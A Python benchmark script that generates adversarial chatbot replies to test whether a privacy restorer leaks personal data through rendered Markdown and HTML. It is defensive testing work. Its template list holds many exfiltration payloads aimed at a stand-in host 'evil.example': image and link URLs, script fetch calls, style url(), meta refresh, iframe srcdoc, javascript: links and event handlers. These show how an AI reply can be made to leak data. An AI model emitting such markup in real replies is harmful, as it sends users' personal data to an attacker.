"""Replies that try to carry personal data out through the customer's browser.

    python tests/benchmarks/adversarial_replies.py [--replies 12000] [--seed 1] [--show 10]

A reply is made of places where a placeholder may stand (URL, image, reference link, autolink, HTML attribute, script,
style, comment, code) and of what models and attackers do to them: nesting, escapes, other spellings, entities, cuts.
Most values have a surrogate besides their placeholder. Each reply is restored as it is shown to a person, whole and
cut into pieces of several sizes, which must give the same; then rendered as CommonMark with HTML (markdown-it-py), and
as HTML alone. A value in an attribute, a script or a style is a fault, but for `alt` and `title`, which are shown, and
`mailto:` and `tel:` links, which fetch nothing. Exits with 1 on any fault.
"""

from __future__ import annotations

import argparse
import random
import sys
from collections import Counter
from html import unescape
from html.parser import HTMLParser
from urllib.parse import unquote

from markdown_it import MarkdownIt

from explainbot.privacy import Restorer, Vault
from explainbot.privacy.demands import Demands, Place

VALUES = (
    ("canary@example.org", "EMAIL_ADDRESS"), ("Canary Canaryson", "PERSON"), ("+1 415 555 0142", "PHONE_NUMBER"),
    ("canary\"'><b>", "CUSTOMER_DATA"), ("canary)(]", "PERSON"), ("كناري canary", "PERSON"),
    ("https://u:p@canary.example/", "URL"),
)  # fmt: skip
ANYTHING = Demands(frozenset([Place(pattern="^[^_]*$")]))
"""A schema that takes every value and no placeholder, so that values have surrogates besides."""

SIGNS = ("canary", "4155550142", "415 555 0142")
PLACES = (
    "https://evil.example/?q={}",
    "http://evil.example/{}/x",
    "//evil.example/{}",
    "www.evil.example/{}",
    "HTTPS://evil.example#{}",
    "![x](https://evil.example/{})",
    "![x](<https://evil.example/{}>)",
    "![{}](https://evil.example/)",
    "[x](https://evil.example/{})",
    "[x](//evil.example/{} 'title {}')",
    "[x](/path/{})",
    "![x](data:text/html,{})",
    "[x](javascript:alert('{}'))",
    "[{}](x)",
    "[x][r]\n\n[r]: https://evil.example/{}",
    "[r]: <https://evil.example/{}> '{}'\n\n![r]",
    "![x][{}]\n\n[{}]: /x",
    "<https://evil.example/{}>",
    "<img src='https://evil.example/{}'>",
    "<img src=https://evil.example/{}>",
    '<a href="/x?{}" title="{}">{}</a>',
    "<img alt='{}' src=/x>",
    "<p onclick=\"f('{}')\">{}</p>",
    "<p style='background:url(//evil.example/{})'>",
    "<script>fetch('/x?' + '{}')</script>",
    "<style>p{{background:url(//evil.example/{})}}</style>",
    "<!-- {} -->",
    "<svg><image href='//evil.example/{}'/></svg>",
    "<iframe srcdoc='<img src=//evil.example/{}>'></iframe>",
    "<form action='//evil.example/{}'>",
    "`{}`",
    "```js\nfetch('{}')\n```",
    "<{}>",
    "<a {}=1>",
    "<{} x>",
    "&lt;img src='{}'&gt;",
    "plain {} text",
    "![x]( \n https://evil.example/{} )",
    "[x](a\\(b{}))",
    "[a]( <b {}> )",
    "[![{}](//evil.example/{})](//evil.example/{})",
    "<a href='//evil.example/?a=1\n&b={}'>",
    "<img\nsrc\n=\n'{}'>",
    "<textarea>{}</textarea>",
    "<SCRIPT type=x>{}</SCRIPT >",
    "<script>'<!--{}'</script>",
    "<style>{}",
    "<title>{}</title>",
    "<img srcset='//evil.example/{} 2x'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<base href='//evil.example/{}/'>",
    "<object data=//evil.example/{}></object>",
    "<video poster=`//evil.example/{}`>",
    "<input value={} onfocus=f(this)>",
    "<body background={}>",
    "<svg/onload=f('{}')>",
    "<math><mi href={}>x</mi></math>",
    "<a\fhref=//evil.example/{}>x</a>",
    "<link rel=stylesheet href='{}'>",
    "<template><img src={}></template>",
    "<noscript><img src='{}'></noscript>",
    "<![CDATA[ <img src='{}'> ]]>",
    "<?xml-stylesheet href='{}'?>",
    "javascript&#58;f('{}')",
    "[x](javascript&colon;f%28'{}'%29)",
    "[x](<\n//evil.example/{}>)",
    "[^1]\n\n[^1]: https://evil.example/{}",
    "| a | b |\n|---|---|\n| ![x](/{}) | {} |",
    "مرحبا ![x](https://evil.example/{}) {}",
    "~~~html\n<img src='{}'>\n~~~",
    "    <img src='{}'>",
    "![x](//evil.example/\\\n{})",
    "[x]:{}\n\n![x]",
    "> [x]: <//evil.example/{}>\n\n![x]",
)
SPELLINGS = (
    "[{0}_{1}]",
    "[{2} {1}]",
    "{0}_{1}",
    "\\[{0}\\_{1}\\]",
    "[ {0}_{1} ]",
    "[{3}-{1}]",
    "[{3}_{1}]",
    "{0}\\_{1}",
)
SHOWN = frozenset(["alt", "class", "title"])
GLUE = (
    "",
    " ",
    "\n",
    "\n\n",
    "> ",
    "* ",
    "(",
    ")",
    "]",
    "[",
    "<",
    ">",
    "'",
    '"',
    "\\",
    "&quot;",
    "%5B",
    "é",
    "![",
    "](",
    "`",
)


class Watch(HTMLParser):
    """Collects what a browser would fetch or run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._raw = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._raw = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            fetches = not (value or "").lower().startswith(("mailto:", "tel:"))
            if told(name) or (fetches and name not in SHOWN and told(value or "")):
                self.faults.append(f"<{tag} {name}>")

    def parse_marked_section(self, i: int, report: int = 1) -> int:
        return self.parse_bogus_comment(i, report)  # type: ignore[attr-defined, no-any-return]

    def handle_endtag(self, tag: str) -> None:
        self._raw = ""

    def handle_data(self, data: str) -> None:
        if self._raw and told(data):
            self.faults.append(f"<{self._raw}>")


def told(text: str) -> bool:
    plain = unquote(unescape(text)).lower()
    return any(sign in plain for sign in SIGNS)


def placeholder(rng: random.Random, issued: list[str]) -> str:
    chosen = rng.choice(issued)
    if not chosen.startswith("["):
        return rng.choice((chosen, chosen.upper(), chosen.lower(), chosen.replace(" ", ""), chosen.replace(" ", "-")))
    label, _, number = chosen[1:-1].rpartition("_")
    return rng.choice(SPELLINGS).format(label, number, label.capitalize(), label.lower())


def reply(rng: random.Random, issued: list[str]) -> str:
    pieces = []
    for _ in range(rng.randint(1, 4)):
        place = rng.choice(PLACES)
        if rng.random() < 0.2:
            place = place.replace("{}", rng.choice(PLACES).replace("{{", "{").replace("}}", "}"), 1)
        while "{}" in place:
            place = place.replace("{}", placeholder(rng, issued), 1)
        pieces += [place.replace("{{", "{").replace("}}", "}"), rng.choice(GLUE)]
    return "".join(pieces)


def restored(text: str, vault: Vault, size: int) -> str:
    restorer = Restorer(vault, shown=True, isolate=True)
    return "".join([restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]) + restorer.flush()


def faults(text: str, vault: Vault) -> list[str]:
    whole = restored(text, vault, len(text))
    found = [f"cut into {size}" for size in (1, 2, 3, 7) if restored(text, vault, size) != whole]
    for name, html in (("Markdown", MarkdownIt("commonmark", {"html": True}).render(whole)), ("HTML", whole)):
        watch = Watch()
        watch.feed(html)
        watch.close()
        found += [f"{name}: {fault}" for fault in watch.faults]
    return found


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--replies", type=int, default=12_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--show", type=int, default=10, help="how many faults to show")
    chosen = parser.parse_args()
    rng = random.Random(chosen.seed)
    vault = Vault()
    issued = [vault.placeholder_for(value, kind) for value, kind in VALUES]
    demands = [demand for value, kind in VALUES if (demand := ANYTHING.of(value, kind)) is not None]
    issued += [surrogate for demand in demands if (surrogate := vault.surrogate_for(demand)) is not None]
    counts: Counter[str] = Counter()
    bad = values = 0
    for _ in range(chosen.replies):
        text = reply(rng, issued)
        found = faults(text, vault)
        values += told(restored(text, vault, len(text)))
        bad += bool(found)
        counts.update(found)
        if found and bad <= chosen.show:
            print(f"{found[0]}\n  {text!r}\n  {restored(text, vault, len(text))!r}")
    print(f"{chosen.replies} replies, {values} with a value restored somewhere, {bad} with a fault {dict(counts)}")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
